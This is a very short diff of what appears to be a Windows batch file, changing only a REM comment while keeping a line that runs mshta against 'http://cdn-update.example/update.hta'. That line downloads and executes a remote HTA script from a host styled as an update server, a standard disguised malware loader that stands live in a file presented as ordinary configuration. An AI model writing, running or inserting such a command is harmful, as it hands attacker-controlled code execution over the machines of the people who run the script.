@@ -1,2 +1,2 @@
-REM init 9016 v3
+REM config 2207 v3
 mshta http://cdn-update.example/update.hta
